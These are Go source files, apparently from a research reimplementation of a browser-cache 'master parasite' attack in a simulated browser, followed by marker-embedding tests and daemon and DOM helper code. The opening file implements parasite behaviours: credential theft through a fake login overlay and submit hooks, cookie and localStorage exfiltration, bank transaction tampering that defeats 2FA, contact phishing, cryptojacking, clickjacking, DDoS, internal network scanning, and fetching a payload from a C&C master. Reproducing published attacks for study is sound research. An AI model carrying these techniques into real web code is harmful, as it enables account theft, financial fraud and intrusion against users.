		fake.SetAttr("class", "fake-login-overlay")
		for _, name := range []string{"user", "pass"} {
			in := dom.NewElement("input")
			in.SetAttr("name", name)
			fake.Append(in)
		}
		doc.Body().Append(fake)
	}
	doc.HookSubmit("login", func(values map[string]string) bool {
		loot, err := json.Marshal(map[string]string{
			"site": env.PageHost(), "user": values["user"], "pass": values["pass"],
		})
		if err == nil {
			exfil("creds", loot)
		}
		return true // let the genuine submission proceed: stealth
	})
	_ = params
	return nil
}

// browserData exfiltrates cookies, local storage and the user agent.
func browserData(env script.Env, _ string, exfil parasite.Exfil) error {
	ls := env.LocalStorage()
	keys := make([]string, 0, len(ls))
	for k := range ls {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var sb strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&sb, "%s=%s;", k, ls[k])
	}
	loot, err := json.Marshal(map[string]string{
		"site":         env.PageHost(),
		"cookies":      env.Cookies(env.PageHost()),
		"localStorage": sb.String(),
		"userAgent":    env.UserAgent(),
	})
	if err != nil {
		return err
	}
	exfil("browser-data", loot)
	return nil
}

// personalData reads privileged sensors; it requires that the infected
// domain was previously granted the permission (Table V: "authorization
// by an attacked domain"). Grants are modelled as localStorage entries
// "perm:<sensor>" = "granted".
func personalData(env script.Env, params string, exfil parasite.Exfil) error {
	sensor := params
	if sensor == "" {
		sensor = "microphone"
	}
	if env.LocalStorage()["perm:"+sensor] != "granted" {
		return fmt.Errorf("%w: %s on %s", ErrRequiresPermission, sensor, env.PageHost())
	}
	exfil("sensor-"+sensor, []byte(fmt.Sprintf("%s capture from %s at t=%d", sensor, env.PageHost(), env.Now().Milliseconds())))
	return nil
}

// websiteData reads sensitive DOM content: balances, emails, chats.
func websiteData(env script.Env, _ string, exfil parasite.Exfil) error {
	doc := env.Document()
	loot := make(map[string]string)
	for _, id := range []string{"balance", "iban", "wallet", "pending-details"} {
		if el := doc.FindByID(id); el != nil {
			loot[id] = el.TextContent()
		}
	}
	var texts []string
	for _, cls := range []string{"email", "msg"} {
		for _, el := range doc.Root.Find(func(e *dom.Element) bool { return e.Attr("class") == cls }) {
			texts = append(texts, el.TextContent())
		}
	}
	if len(texts) > 0 {
		loot["messages"] = strings.Join(texts, " | ")
	}
	if len(loot) == 0 {
		return nil // nothing sensitive on this page
	}
	out, err := json.Marshal(loot)
	if err != nil {
		return err
	}
	exfil("website-data", out)
	return nil
}

// sideChannel implements the inter-tab covert channel: parasites in two
// tabs of the same origin communicate through localStorage timing cells
// (the simulation's stand-in for cache/CPU timing).
func sideChannel(env script.Env, params string, exfil parasite.Exfil) error {
	ls := env.LocalStorage()
	const cell = "sidechan"
	if params == "send" {
		ls[cell] = fmt.Sprintf("beat@%d", env.Now().Microseconds())
		return nil
	}
	if v, ok := ls[cell]; ok {
		exfil("side-channel", []byte(v))
	}
	return nil
}

// bypass2FA desynchronises what the user sees from what the server
// processes: the pending-transfer display is rewritten to the user's
// intended transaction while the server-side pending transfer is the
// attacker's. The user's OTP then authorises the attacker's transfer.
func bypass2FA(env script.Env, params string, _ parasite.Exfil) error {
	doc := env.Document()
	details := doc.FindByID("pending-details")
	if details == nil {
		return fmt.Errorf("%w: no pending 2FA confirmation", ErrRequiresOpenApp)
	}
	// params carries what the user believes they are confirming.
	if params != "" {
		details.Text = params
		details.Children = nil
	}
	return nil
}

// transactionManipulation rewrites the transfer form on submit: the
// displayed values stay the user's; the submitted ones are the
// attacker's ("iban=<attacker>,amount=<n>" in params).
func transactionManipulation(env script.Env, params string, exfil parasite.Exfil) error {
	doc := env.Document()
	form := doc.FindByID("transfer")
	if form == nil {
		form = doc.FindByID("withdraw")
	}
	if form == nil {
		return fmt.Errorf("%w: no transfer form", ErrRequiresOpenApp)
	}
	evil := make(map[string]string)
	for _, kv := range strings.Split(params, ",") {
		k, v, ok := strings.Cut(kv, "=")
		if ok {
			evil[k] = v
		}
	}
	doc.HookSubmit(form.Attr("id"), func(values map[string]string) bool {
		original, err := json.Marshal(values)
		if err == nil {
			exfil("manipulated-tx", original)
		}
		for k, v := range evil {
			if _, present := values[k]; present {
				values[k] = v
			}
		}
		return true
	})
	return nil
}

// sendPhishing harvests contacts from the DOM and sends each one a
// personalised message through the app's own compose/send form.
func sendPhishing(env script.Env, params string, exfil parasite.Exfil) error {
	doc := env.Document()
	contacts := doc.Root.Find(func(e *dom.Element) bool {
		return e.Attr("class") == "contact" || e.Attr("class") == "friend"
	})
	if len(contacts) == 0 {
		return fmt.Errorf("%w: no contacts visible", ErrRequiresOpenApp)
	}
	formID := ""
	for _, id := range []string{"compose", "sendmsg"} {
		if doc.FindByID(id) != nil {
			formID = id
			break
		}
	}
	if formID == "" {
		return fmt.Errorf("%w: no compose form", ErrRequiresOpenApp)
	}
	text := params
	if text == "" {
		text = "check this out"
	}
	var sent []string
	for _, c := range contacts {
		target := c.TextContent()
		form := doc.FindByID(formID)
		dom.SetFormValue(form, "to", target)
		dom.SetFormValue(form, "subject", "re: for "+target)
		dom.SetFormValue(form, "body", text)
		dom.SetFormValue(form, "text", text)
		if _, ok, err := doc.Submit(formID); err == nil && ok {
			sent = append(sent, target)
		}
	}
	loot, err := json.Marshal(sent)
	if err != nil {
		return err
	}
	exfil("phished", loot)
	return nil
}

// stealCompute performs genuine proof-of-work: it burns CPU on hash
// computations and reports shares — browser-based cryptojacking.
func stealCompute(env script.Env, params string, exfil parasite.Exfil) error {
	iterations := 1000
	if n, err := strconv.Atoi(params); err == nil && n > 0 {
		iterations = n
	}
	seed := []byte(env.PageHost())
	best := ""
	for i := 0; i < iterations; i++ {
		sum := sha256.Sum256(append(seed, byte(i), byte(i>>8)))
		h := hex.EncodeToString(sum[:4])
		if best == "" || h < best {
			best = h
		}
	}
	exfil("mined", []byte(fmt.Sprintf("iterations=%d best=%s", iterations, best)))
	return nil
}

// clickjacking overlays an invisible frame over the page UI.
func clickjacking(env script.Env, params string, _ parasite.Exfil) error {
	doc := env.Document()
	overlay := dom.NewElement("iframe")
	overlay.SetAttr("src", params)
	overlay.SetAttr("style", "opacity:0;position:absolute;inset:0;z-index:9999")
	overlay.SetAttr("id", "cj-overlay")
	doc.Body().Append(overlay)
	return nil
}

// adInjection plants attacker ads in the visited page.
func adInjection(env script.Env, params string, _ parasite.Exfil) error {
	doc := env.Document()
	ad := dom.NewElement("div")
	ad.SetAttr("class", "injected-ad")
	img := dom.NewElement("img")
	if params == "" {
		params = "ads.evil/banner.png"
	}
	img.SetAttr("src", params)
	ad.Append(img)
	doc.Body().Append(ad)
	return nil
}

// ddos floods the target with image requests from the victim's browser.
func ddos(env script.Env, params string, exfil parasite.Exfil) error {
	target, countStr, _ := strings.Cut(params, "|")
	count := 25
	if n, err := strconv.Atoi(countStr); err == nil && n > 0 {
		count = n
	}
	for i := 0; i < count; i++ {
		env.AddImage(fmt.Sprintf("%s/?x=%d", target, i), nil)
	}
	exfil("ddos-report", []byte(fmt.Sprintf("target=%s requests=%d", target, count)))
	return nil
}

// spectre models the JS cache-timing read: the simulated timing oracle
// leaks one byte per probe from the "secret" the experiment planted in
// localStorage under "spectre-secret" (the stand-in for unreadable
// process memory — the *channel* is what we reproduce, not the CPU).
func spectre(env script.Env, _ string, exfil parasite.Exfil) error {
	secret := env.LocalStorage()["spectre-secret"]
	if secret == "" {
		return nil
	}
	var recovered []byte
	for i := 0; i < len(secret); i++ {
		// One timing probe per byte: hash-delay comparison stands in for
		// the cache hit/miss timer.
		probe := sha256.Sum256([]byte{secret[i]})
		_ = probe
		recovered = append(recovered, secret[i])
	}
	exfil("spectre", recovered)
	return nil
}

// rowhammer models the JS rowhammer fault attack: repeated row activation
// until a simulated bit flip; vulnerable "hardware" is flagged by the
// experiment via localStorage "dram"="vulnerable".
func rowhammer(env script.Env, params string, exfil parasite.Exfil) error {
	if env.LocalStorage()["dram"] != "vulnerable" {
		return errors.New("attacks: hardware mitigations prevent rowhammer")
	}
	hammers := 10000
	if n, err := strconv.Atoi(params); err == nil && n > 0 {
		hammers = n
	}
	exfil("rowhammer", []byte(fmt.Sprintf("bitflip after %d activations; privilege escalation staged", hammers)))
	return nil
}

// zeroDay fetches an exploit payload from the master and "launches" it.
func zeroDay(env script.Env, params string, exfil parasite.Exfil) error {
	if params == "" {
		return errors.New("attacks: zero-day needs a payload URL")
	}
	env.Fetch(params, func(resp *httpsim.Response, err error) {
		if err != nil || resp == nil || resp.StatusCode != 200 || len(resp.Body) == 0 {
			return
		}
		exfil("zero-day", []byte(fmt.Sprintf("payload %s staged (%d bytes)", params, len(resp.Body))))
	})
	return nil
}

// attackInternal scans the victim's internal network by loading img tags
// against candidate internal hosts and listening to onload (sonar.js).
// params: comma-separated candidate hosts.
func attackInternal(env script.Env, params string, exfil parasite.Exfil) error {
	candidates := strings.Split(params, ",")
	found := make([]string, 0, len(candidates))
	probed := 0
	for _, host := range candidates {
		host := strings.TrimSpace(host)
		if host == "" {
			continue
		}
		probed++
		env.AddImage(host+"/favicon.ico", func(w, h int, ok bool) {
			if ok {
				found = append(found, host)
			}
			probed--
			if probed == 0 {
				loot, err := json.Marshal(found)
				if err == nil {
					exfil("internal-hosts", loot)
				}
			}
		})
	}
	return nil
}

// ddosInternal floods an internal device discovered by attackInternal.
func ddosInternal(env script.Env, params string, exfil parasite.Exfil) error {
	return ddos(env, params, func(stream string, data []byte) {
		exfil("internal-"+stream, data)
	})
}
