package script

import (
	"bytes"
	"errors"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
)

func TestNameStripsQuery(t *testing.T) {
	if got := Name("a.com/js/app.js?t=500198"); got != "a.com/js/app.js" {
		t.Fatalf("Name = %q", got)
	}
	if got := Name("a.com/js/app.js"); got != "a.com/js/app.js" {
		t.Fatalf("Name = %q", got)
	}
}

func TestSHA256ChangesWithContent(t *testing.T) {
	a := &Script{URL: "x", Content: []byte("var a=1;")}
	b := &Script{URL: "x", Content: []byte("var a=2;")}
	if a.SHA256() == b.SHA256() {
		t.Fatal("hash collision on different content")
	}
	if a.SHA256() != (&Script{Content: []byte("var a=1;")}).SHA256() {
		t.Fatal("hash not content-determined")
	}
}

func TestEmbedPreservesOriginal(t *testing.T) {
	orig := []byte("function f(){return 42}")
	infected := Embed(orig, "parasite", "p1")
	if !bytes.HasPrefix(infected, orig) {
		t.Fatal("original content not preserved as prefix")
	}
	if !Infected(infected) {
		t.Fatal("Infected = false")
	}
	if Infected(orig) {
		t.Fatal("clean script reported infected")
	}
}

func TestMarkersExtraction(t *testing.T) {
	content := Embed(Embed([]byte("x"), "parasite", "p1"), "cnc", "master.evil")
	ms := Markers(content)
	if len(ms) != 2 {
		t.Fatalf("markers = %v", ms)
	}
	if ms[0] != (Marker{Kind: "parasite", Payload: "p1"}) {
		t.Fatalf("first marker = %+v", ms[0])
	}
	if ms[1] != (Marker{Kind: "cnc", Payload: "master.evil"}) {
		t.Fatalf("second marker = %+v", ms[1])
	}
}

func TestEmbedHTMLBeforeBodyClose(t *testing.T) {
	html := []byte("<html><body><h1>hi</h1></body></html>")
	out := string(EmbedHTML(html, "parasite", "p2"))
	i := strings.Index(out, "<script>")
	j := strings.Index(out, "</body>")
	if i < 0 || j < 0 || i > j {
		t.Fatalf("marker not before </body>: %q", out)
	}
	ms := Markers([]byte(out))
	if len(ms) != 1 || ms[0].Payload != "p2" {
		t.Fatalf("markers = %v", ms)
	}
}

func TestEmbedHTMLWithoutBody(t *testing.T) {
	out := EmbedHTML([]byte("fragment"), "k", "v")
	if len(Markers(out)) != 1 {
		t.Fatal("marker lost")
	}
}

func TestMarkerRoundTripProperty(t *testing.T) {
	isClean := func(s string) bool {
		return !strings.Contains(s, ":") && !strings.Contains(s, "*/") &&
			!strings.Contains(s, "/*")
	}
	f := func(body []byte, kind, payload string) bool {
		if !isClean(kind) || !isClean(payload) || Infected(body) {
			return true // skip inputs that collide with the marker syntax
		}
		ms := Markers(Embed(body, kind, payload))
		return len(ms) == 1 && ms[0].Kind == kind && ms[0].Payload == payload
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// fakeEnv implements Env for runtime tests.
type fakeEnv struct {
	doc *dom.Document
}

func (f *fakeEnv) Now() time.Duration       { return 0 }
func (f *fakeEnv) PageURL() string          { return "site.com/" }
func (f *fakeEnv) PageHost() string         { return "site.com" }
func (f *fakeEnv) ScriptURL() string        { return "site.com/a.js" }
func (f *fakeEnv) Document() *dom.Document  { return f.doc }
func (f *fakeEnv) UserAgent() string        { return "test" }
func (f *fakeEnv) Cookies(string) string    { return "" }
func (f *fakeEnv) SetCookie(string, string) {}
func (f *fakeEnv) LocalStorage() map[string]string {
	return nil
}
func (f *fakeEnv) Fetch(string, func(*httpsim.Response, error))        {}
func (f *fakeEnv) FetchNoCache(string, func(*httpsim.Response, error)) {}
func (f *fakeEnv) AddIframe(string)                                    {}
func (f *fakeEnv) AddImage(string, func(int, int, bool))               {}
func (f *fakeEnv) CacheAPIPut(string, *httpsim.Response)               {}

var _ Env = (*fakeEnv)(nil)

func TestRuntimeExecutesRegisteredMarkers(t *testing.T) {
	rt := NewRuntime()
	var got []string
	rt.Register("parasite", func(_ Env, payload string) error {
		got = append(got, payload)
		return nil
	})
	content := Embed(Embed([]byte("orig"), "parasite", "a"), "unknown", "b")
	ran, err := rt.Execute(&fakeEnv{}, content)
	if err != nil {
		t.Fatal(err)
	}
	if ran != 1 || len(got) != 1 || got[0] != "a" {
		t.Fatalf("ran=%d got=%v", ran, got)
	}
}

func TestRuntimeCleanScriptNoop(t *testing.T) {
	rt := NewRuntime()
	rt.Register("parasite", func(Env, string) error {
		t.Fatal("behaviour ran on clean script")
		return nil
	})
	ran, err := rt.Execute(&fakeEnv{}, []byte("plain js"))
	if err != nil || ran != 0 {
		t.Fatalf("ran=%d err=%v", ran, err)
	}
}

func TestRuntimeErrorAborts(t *testing.T) {
	rt := NewRuntime()
	boom := errors.New("boom")
	calls := 0
	rt.Register("p", func(Env, string) error {
		calls++
		return boom
	})
	content := Embed(Embed(nil, "p", "1"), "p", "2")
	ran, err := rt.Execute(&fakeEnv{}, content)
	if !errors.Is(err, boom) {
		t.Fatalf("err = %v", err)
	}
	if ran != 0 || calls != 1 {
		t.Fatalf("ran=%d calls=%d", ran, calls)
	}
}

func TestRuntimeRegistered(t *testing.T) {
	rt := NewRuntime()
	if rt.Registered("p") {
		t.Fatal("phantom registration")
	}
	rt.Register("p", func(Env, string) error { return nil })
	if !rt.Registered("p") {
		t.Fatal("registration lost")
	}
}

func TestEmbeddedMarkerSurvivesHTMLParse(t *testing.T) {
	// The marker travels inside a <script> element; the DOM parser must
	// keep its text intact so the executor can find it.
	html := EmbedHTML([]byte("<html><body><p>x</p></body></html>"), "parasite", "p9")
	d := dom.ParseHTML("site.com/", html)
	scripts := d.FindByTag("script")
	if len(scripts) != 1 {
		t.Fatalf("scripts = %d", len(scripts))
	}
	ms := Markers([]byte(scripts[0].Text))
	if len(ms) != 1 || ms[0].Payload != "p9" {
		t.Fatalf("marker lost in DOM: %v", ms)
	}
}
