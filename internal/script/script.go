// Package script models the JavaScript objects that the attack infects.
//
// A script has two identities that the persistency study (§VI-A, Fig. 3)
// distinguishes: its *name* (the URL path, which browser caches use as
// key) and its *content hash* (which changes when the site updates the
// file). Parasite code is represented as a marker embedded in the script
// bytes — "';PARASITE_CODE;' is appended to the end of the corresponding
// original JavaScript file" — and a Runtime dispatches registered native
// behaviours when a browser executes a script containing markers.
package script

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"strings"
	"time"

	"masterparasite/internal/dom"
	"masterparasite/internal/httpsim"
)

// Script is a named blob of executable content.
type Script struct {
	URL     string
	Content []byte
}

// SHA256 returns the hex content hash — the "persistent (hash)" identity
// of Fig. 3.
func (s *Script) SHA256() string {
	sum := sha256.Sum256(s.Content)
	return hex.EncodeToString(sum[:])
}

// Name returns the script's name identity: host plus path without the
// query string. Browser caches key by name, so this is what the attacker
// needs to stay stable (Fig. 3 "persistent (name)").
func Name(url string) string {
	if i := strings.IndexByte(url, '?'); i >= 0 {
		return url[:i]
	}
	return url
}

// Marker delimiters. The payload is opaque to this package; the parasite
// package uses it to carry the parasite configuration ID.
const (
	markerOpen  = ";/*MP:"
	markerClose = "*/;"
)

// Marker is one embedded behaviour reference.
type Marker struct {
	Kind    string
	Payload string
}

// Embed appends a marker to JavaScript content, preserving the original
// bytes so the page keeps functioning ("The original function is
// preserved by attaching it to the end", §VI-A — here the parasite comes
// last, same effect).
func Embed(content []byte, kind, payload string) []byte {
	out := make([]byte, 0, len(content)+len(markerOpen)+len(kind)+len(payload)+8)
	out = append(out, content...)
	out = append(out, '\n')
	out = append(out, []byte(markerOpen+kind+":"+payload+markerClose)...)
	return out
}

// EmbedHTML inserts a script-tag marker before the closing </body> tag
// (§VI-A: "for HTML files, a '<script>PARASITE CODE</script>' tag is
// inserted before the closing '</body>' tag"). If no </body> exists the
// marker is appended.
func EmbedHTML(html []byte, kind, payload string) []byte {
	tag := "<script>" + markerOpen + kind + ":" + payload + markerClose + "</script>"
	s := string(html)
	if i := strings.LastIndex(strings.ToLower(s), "</body>"); i >= 0 {
		return []byte(s[:i] + tag + s[i:])
	}
	return []byte(s + tag)
}

// Markers extracts every embedded marker from content.
func Markers(content []byte) []Marker {
	var out []Marker
	s := string(content)
	for {
		i := strings.Index(s, markerOpen)
		if i < 0 {
			return out
		}
		rest := s[i+len(markerOpen):]
		j := strings.Index(rest, markerClose)
		if j < 0 {
			return out
		}
		kind, payload, _ := strings.Cut(rest[:j], ":")
		out = append(out, Marker{Kind: kind, Payload: payload})
		s = rest[j+len(markerClose):]
	}
}

// Infected reports whether content carries at least one marker.
func Infected(content []byte) bool {
	return strings.Contains(string(content), markerOpen)
}

// Env is the capability surface a browser grants to executing scripts —
// the sandbox. Everything the parasite does (§VI, §VII) goes through
// these methods and nothing else.
type Env interface {
	// Now returns the simulation clock.
	Now() time.Duration
	// PageURL returns the URL of the page the script runs in.
	PageURL() string
	// PageHost returns the origin host of that page (the SOP origin).
	PageHost() string
	// ScriptURL returns the URL the executing script was loaded from.
	ScriptURL() string
	// Document gives full DOM read/write access.
	Document() *dom.Document
	// UserAgent identifies the browser.
	UserAgent() string
	// Cookies returns document.cookie for a domain. Per the SOP the
	// browser only honours requests for the page's own host; the parasite
	// circumvents this by *running inside* each origin it infected.
	Cookies(domain string) string
	// SetCookie writes a cookie for the page's origin.
	SetCookie(name, value string)
	// LocalStorage returns the page origin's local storage map (live).
	LocalStorage() map[string]string
	// Fetch issues a cache-aware subresource request from the page
	// context. The URL is host-qualified ("host/path").
	Fetch(url string, cb func(*httpsim.Response, error))
	// FetchNoCache bypasses the cache, as done with cache-buster query
	// strings (Fig. 2 step 3: "GET somesite.com/my.js?t=500198").
	FetchNoCache(url string, cb func(*httpsim.Response, error))
	// AddIframe appends an iframe to the DOM; the browser loads the
	// framed page and all its subresources (§VI-B1 propagation).
	AddIframe(url string)
	// AddImage appends an img element; onload reports the cross-origin-
	// visible dimensions ("most image properties are hidden, but the
	// image dimensions are visible", §VI-C).
	AddImage(url string, onload func(width, height int, ok bool))
	// CacheAPIPut stores a response in the origin's Cache API storage,
	// the persistence anchor of Table III.
	CacheAPIPut(url string, resp *httpsim.Response)
}

// Behavior is a native implementation bound to a marker kind.
type Behavior func(env Env, payload string) error

// Runtime dispatches marker behaviours.
type Runtime struct {
	behaviors map[string]Behavior
}

// NewRuntime returns an empty runtime.
func NewRuntime() *Runtime {
	return &Runtime{behaviors: make(map[string]Behavior)}
}

// Register binds kind to a behaviour. Re-registration replaces silently —
// infection overwrites, as in the attack.
func (r *Runtime) Register(kind string, b Behavior) {
	r.behaviors[kind] = b
}

// Registered reports whether kind has a behaviour.
func (r *Runtime) Registered(kind string) bool {
	_, ok := r.behaviors[kind]
	return ok
}

// Execute runs every marker in content that has a registered behaviour and
// returns how many ran. Unknown marker kinds are skipped (a browser that
// never loaded the parasite bootstrap executes the appended bytes as
// harmless comments). The first behaviour error aborts execution.
func (r *Runtime) Execute(env Env, content []byte) (int, error) {
	ran := 0
	for _, m := range Markers(content) {
		b, ok := r.behaviors[m.Kind]
		if !ok {
			continue
		}
		if err := b(env, m.Payload); err != nil {
			return ran, fmt.Errorf("script behaviour %q: %w", m.Kind, err)
		}
		ran++
	}
	return ran, nil
}
