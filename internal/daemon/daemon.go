// Package daemon holds the shared lifecycle helper for the repo's
// long-lived HTTP commands (cmd/labd, cmd/master): serve until SIGINT
// or SIGTERM, then drain gracefully — stop accepting connections, let
// in-flight requests finish via http.Server.Shutdown, and run any
// subsystem drain hooks (labd's queue/fleet drain) under the same
// deadline.
package daemon

import (
	"context"
	"errors"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"
)

// Serve runs srv on ln until the process receives SIGINT or SIGTERM
// (or the server fails on its own), then shuts down gracefully within
// drainTimeout and runs the hooks in order under the same deadline.
// The first error wins; a clean signal-triggered shutdown returns nil.
func Serve(srv *http.Server, ln net.Listener, drainTimeout time.Duration, hooks ...func(context.Context) error) error {
	errc := make(chan error, 1)
	go func() { errc <- srv.Serve(ln) }()

	sigc := make(chan os.Signal, 1)
	signal.Notify(sigc, os.Interrupt, syscall.SIGTERM)
	defer signal.Stop(sigc)

	select {
	case err := <-errc:
		// The server failed before any signal; nothing left to drain.
		return err
	case <-sigc:
	}

	ctx, cancel := context.WithTimeout(context.Background(), drainTimeout)
	defer cancel()
	err := srv.Shutdown(ctx)
	if serveErr := <-errc; serveErr != nil && !errors.Is(serveErr, http.ErrServerClosed) && err == nil {
		err = serveErr
	}
	for _, hook := range hooks {
		if herr := hook(ctx); herr != nil && err == nil {
			err = herr
		}
	}
	return err
}
