package daemon

import (
	"context"
	"net"
	"net/http"
	"sync"
	"syscall"
	"testing"
	"time"

	"masterparasite/internal/artifact"
	"masterparasite/internal/labd"
)

// The drain-with-work test needs a run the fleet is actively executing
// when SIGTERM lands, so it registers a gated spec plus a fast one.

type drainDataset []struct {
	Name string `json:"name"`
}

func (d drainDataset) Table() (header []string, rows [][]string) {
	header = []string{"name"}
	for _, r := range d {
		rows = append(rows, []string{r.Name})
	}
	return header, rows
}

var (
	drainGateMu sync.Mutex
	drainGate   = make(chan struct{})
)

func armDrainGate() (release func()) {
	drainGateMu.Lock()
	defer drainGateMu.Unlock()
	ch := make(chan struct{})
	drainGate = ch
	var once sync.Once
	return func() { once.Do(func() { close(ch) }) }
}

func init() {
	artifact.MustRegister(artifact.Spec{
		ID: "daemon-t-block", Title: "daemon drain blocking artifact", Section: "test",
		Run: func(artifact.Env) (*artifact.Result, error) {
			drainGateMu.Lock()
			ch := drainGate
			drainGateMu.Unlock()
			<-ch
			return &artifact.Result{Text: "released\n", Dataset: drainDataset{}}, nil
		},
	})
	artifact.MustRegister(artifact.Spec{
		ID: "daemon-t-ok", Title: "daemon drain fast artifact", Section: "test",
		Run: func(artifact.Env) (*artifact.Result, error) {
			return &artifact.Result{Text: "ok\n", Dataset: drainDataset{}}, nil
		},
	})
}

// TestServeDrainsInFlightLabdRun is the full-stack drain scenario: a
// labd daemon with one fleet has a run mid-execution and a second run
// queued behind it when SIGTERM arrives. The drain must let the
// in-flight run finish and persist done, leave the queued run durably
// queued (the closed queue hands out no new work), and a restarted
// daemon on the same store must pick the queued run back up and
// complete it.
func TestServeDrainsInFlightLabdRun(t *testing.T) {
	store := t.TempDir()
	release := armDrainGate()
	defer release()
	lab, err := labd.Open(labd.Config{StoreDir: store, Fleets: 1})
	if err != nil {
		t.Fatal(err)
	}

	blockRec, err := lab.Enqueue(labd.EnqueueRequest{Spec: "daemon-t-block"})
	if err != nil {
		t.Fatal(err)
	}
	// Wait until the single fleet owns the blocking run, so the second
	// enqueue is guaranteed to sit in the queue.
	deadline := time.Now().Add(10 * time.Second)
	for {
		rec, _ := lab.Get(blockRec.ID)
		if rec.Status == labd.StatusRunning {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("blocking run never started: %s", rec.Status)
		}
		time.Sleep(time.Millisecond)
	}
	queuedRec, err := lab.Enqueue(labd.EnqueueRequest{Spec: "daemon-t-ok"})
	if err != nil {
		t.Fatal(err)
	}

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: lab}
	done := make(chan error, 1)
	go func() {
		done <- Serve(srv, ln, 15*time.Second, func(ctx context.Context) error {
			// The fleet is parked on the gate; open it mid-drain so the
			// hook exercises "wait for the in-flight run, then exit".
			go func() {
				time.Sleep(50 * time.Millisecond)
				release()
			}()
			return lab.Close(ctx)
		})
	}()

	// Confirm the daemon is serving (and Serve's signal handler is
	// installed) before delivering SIGTERM to our own process.
	resp, err := http.Get("http://" + ln.Addr().String() + "/healthz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("healthz = %d", resp.StatusCode)
	}

	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Serve returned %v after draining with work in flight", err)
		}
	case <-time.After(20 * time.Second):
		t.Fatal("Serve did not return after SIGTERM with an in-flight run")
	}

	// The in-flight run finished and persisted; the queued one never ran.
	if rec, _ := lab.Get(blockRec.ID); rec.Status != labd.StatusDone {
		t.Fatalf("in-flight run = %s (error %q), want done", rec.Status, rec.Error)
	}
	if rec, _ := lab.Get(queuedRec.ID); rec.Status != labd.StatusQueued {
		t.Fatalf("queued run = %s, want still queued after drain", rec.Status)
	}

	// Restart on the same store: the queued run is re-enqueued and
	// completes; the finished run keeps its durable done record.
	lab2, err := labd.Open(labd.Config{StoreDir: store, Fleets: 1})
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		_ = lab2.Close(ctx)
	}()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	rec, err := lab2.Wait(ctx, queuedRec.ID)
	if err != nil {
		t.Fatal(err)
	}
	if rec.Status != labd.StatusDone {
		t.Fatalf("restarted queued run = %s (error %q), want done", rec.Status, rec.Error)
	}
	if rec2, ok := lab2.Get(blockRec.ID); !ok || rec2.Status != labd.StatusDone {
		t.Fatalf("finished run lost across restart: %+v", rec2)
	}
}
