package daemon

import (
	"context"
	"io"
	"net"
	"net/http"
	"syscall"
	"testing"
	"time"
)

// TestServeDrainsOnSIGTERM exercises the full lifecycle in-process: the
// server answers a request, the test sends the process a real SIGTERM,
// and Serve returns nil after http.Server.Shutdown and the drain hook
// have both run.
func TestServeDrainsOnSIGTERM(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		_, _ = w.Write([]byte("pong"))
	})}

	hookRan := make(chan struct{})
	done := make(chan error, 1)
	go func() {
		done <- Serve(srv, ln, 5*time.Second, func(ctx context.Context) error {
			if ctx.Err() != nil {
				t.Error("drain hook received an already-expired context")
			}
			close(hookRan)
			return nil
		})
	}()

	resp, err := http.Get("http://" + ln.Addr().String() + "/")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "pong" {
		t.Fatalf("body = %q", body)
	}

	if err := syscall.Kill(syscall.Getpid(), syscall.SIGTERM); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-done:
		if err != nil {
			t.Fatalf("Serve returned %v after graceful drain", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Serve did not return after SIGTERM")
	}
	select {
	case <-hookRan:
	default:
		t.Fatal("drain hook never ran")
	}

	// The listener must be closed: new connections are refused.
	if _, err := net.DialTimeout("tcp", ln.Addr().String(), time.Second); err == nil {
		t.Fatal("listener still accepting after drain")
	}
}

// TestServeReturnsServerError asserts a server that fails on its own
// (closed listener) surfaces the error without waiting for a signal.
func TestServeReturnsServerError(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln.Close()
	srv := &http.Server{Handler: http.NotFoundHandler()}
	errc := make(chan error, 1)
	go func() { errc <- Serve(srv, ln, time.Second) }()
	select {
	case err := <-errc:
		if err == nil {
			t.Fatal("Serve returned nil on a dead listener")
		}
	case <-time.After(5 * time.Second):
		t.Fatal("Serve hung on a dead listener")
	}
}
