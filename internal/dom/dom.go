// Package dom implements the minimal document object model that the
// parasite scripts manipulate (§VII): an element tree parsed from HTML,
// attribute access, form input fields with hookable submit events, iframe
// and resource discovery, and serialisation. "JS has complete read and
// write access to the DOM, and the submit events can be hooked" — this
// package provides exactly that capability surface.
package dom

import (
	"bytes"
	"fmt"
	"sort"
	"strings"
)

// voidTags never contain children.
var voidTags = map[string]bool{
	"img": true, "link": true, "input": true, "meta": true,
	"br": true, "hr": true, "source": true,
}

// Attr is one element attribute.
type Attr struct {
	Key   string // always lower-case
	Value string
}

// AttrList stores an element's attributes in insertion order. Elements
// carry a handful of attributes at most, so a scanned slice beats a
// hash map on both lookup time and allocation — the parser carves
// lists out of a shared arena instead of allocating one map per
// element.
type AttrList []Attr

// Get returns the value stored under the (already lower-case) key, or
// "".
func (a AttrList) Get(key string) string {
	for i := range a {
		if a[i].Key == key {
			return a[i].Value
		}
	}
	return ""
}

// set updates an existing key in place or appends a new one.
func (a AttrList) set(key, value string) AttrList {
	for i := range a {
		if a[i].Key == key {
			a[i].Value = value
			return a
		}
	}
	return append(a, Attr{Key: key, Value: value})
}

